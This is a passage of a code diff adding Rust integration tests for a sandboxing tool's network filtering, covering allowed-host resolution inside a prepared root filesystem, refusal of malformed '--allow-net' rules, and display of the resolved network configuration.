+print(socket.create_connection(("127.0.0.1", port)).recv(5).decode())
+"#;
+    for net in [&["--net", "none"][..], &["--allow-net", "web.test:80"][..]] {
+        let args: Vec<String> = net.iter().map(|arg| arg.to_string()).collect();
+        let (done, _) = filtered(mode, &args, &[&python(), "-c", server_and_client]);
+        assert_eq!(assert_success(&done.output).trim(), "local", "{net:?}");
+    }
+}
+
+/// `--rootfs` with `--allow-net`: the prepared root's /etc gets the jail's resolv.conf and
+/// hosts over its own (here a busybox root from `brig rootfs build shell` whose resolv.conf
+/// is a dangling symlink, as on hosts with systemd-resolved), so the allowed name resolves
+/// and is fetched, an unlisted one does not resolve, and the root's other files stay.
+fn a_prepared_root_resolves_the_allowed_names(mode: Mode) {
+    if !require_tun(mode) {
+        return;
+    }
+    let dir = TempDir::new("net-rootfs");
+    let root = dir.path().join("root");
+    let built = output_of(command_from(&[
+        brig().into(),
+        "rootfs".into(),
+        "build".into(),
+        "shell".into(),
+        root.clone().into(),
+    ]));
+    assert_success(&built);
+    std::os::unix::fs::symlink(
+        "../run/systemd/resolve/stub-resolv.conf",
+        root.join("etc/resolv.conf"),
+    )
+    .unwrap();
+    let servers = Servers::start();
+    let mut args = web_rules(&[servers.http]);
+    args.extend(["--rootfs".into(), root.to_str().unwrap().into()]);
+    let script = format!(
+        "wget -q -O- http://{WEB}:{http}/hello; echo fetched=$?; \
+         wget -q -O- http://unlisted.test:{http}/hello 2>&1; echo unlisted=$?; \
+         grep -c '^sandbox:' /etc/passwd; touch /etc/resolv.conf 2>/dev/null || echo read-only",
+        http = servers.http
+    );
+    let (done, verdict) = filtered(mode, &args, &["sh", "-c", &script]);
+    let out = assert_success(&done.output);
+    assert_eq!(
+        out.trim_end(),
+        format!(
+            "hello\nfetched=0\nwget: bad address 'unlisted.test:{}'\nunlisted=1\n1\nread-only",
+            servers.http
+        ),
+        "{}",
+        describe(&done.output)
+    );
+    allowed_bytes(&verdict, WEB, servers.http);
+}
+
+/// A prepared root without /etc cannot get the jail's resolv.conf: refused at plan time,
+/// naming the option, the path and the fix.
+#[test]
+fn a_prepared_root_without_etc_is_refused_with_a_network() {
+    let dir = TempDir::new("net-rootfs-noetc");
+    for sub in ["proc", "dev", "tmp", "home/sandbox"] {
+        std::fs::create_dir_all(dir.path().join(sub)).unwrap();
+    }
+    for command in ["run", "check"] {
+        let output = run(
+            Mode::Root,
+            &[
+                command,
+                "--rootfs",
+                dir.str(),
+                "--allow-net",
+                "a.test",
+                "--",
+                "true",
+            ],
+        );
+        assert_one_line_error(
+            &output,
+            &[
+                &format!("--rootfs {}", dir.str()),
+                "/etc does not exist",
+                "create the directory /etc",
+            ],
+        );
+    }
+}
+
+#[test]
+fn bad_rules_are_refused_before_anything_starts() {
+    let cases: &[(&[&str], &[&str])] = &[
+        (
+            &["--allow-net", "pypi.org:99999"],
+            &["--allow-net pypi.org:99999", "1 to 65535"],
+        ),
+        (
+            &["--allow-net", "pypi.*.org"],
+            &["--allow-net pypi.*.org", "wildcard"],
+        ),
+        (&["--allow-net", "::1"], &["--allow-net ::1", "brackets"]),
+        (
+            &["--net", "host", "--allow-net", "pypi.org"],
+            &["--allow-net pypi.org", "--net host"],
+        ),
+        (
+            &["--net", "none", "--allow-net", "pypi.org"],
+            &["--allow-net pypi.org", "--net none"],
+        ),
+        (
+            &["--allow-net", "a.test", "--add-host", "db"],
+            &["--add-host db", "NAME:IP"],
+        ),
+        (
+            &["--add-host", "db:10.0.0.1"],
+            &["--add-host db:10.0.0.1", "--net filtered"],
+        ),
+        (
+            &["--allow-net", "a.test", "--net-connections", "0"],
+            &["--net-connections"],
+        ),
+    ];
+    for (flags, needles) in cases {
+        let mut args = vec!["run"];
+        args.extend_from_slice(flags);
+        args.extend(["--", "true"]);
+        let output = run(Mode::Root, &args);
+        assert_one_line_error(&output, needles);
+    }
+}
+
+#[test]
+fn check_shows_the_resolved_rules() {
+    let dir = TempDir::new("net-config");
+    let config = dir.file(
+        "net.yaml",
+        "allow-net: [pypi.org:443, '*.github.com']\nadd-host: ['api.test:10.1.2.3']\nnet-bytes: 10M\ncommand: [true]\n",
+    );
+    let output = run(Mode::Root, &["check", "--config", config.to_str().unwrap()]);
+    let out = assert_success(&output);
+    for needle in [
+        "net: filtered",
+        "- pypi.org:443",
+        "- \"*.github.com (any port)\"",
+        "- api.test:10.1.2.3",
+        "max-bytes: 10485760",
+    ] {
+        assert!(out.contains(needle), "{needle}: {out}");
+    }
+}
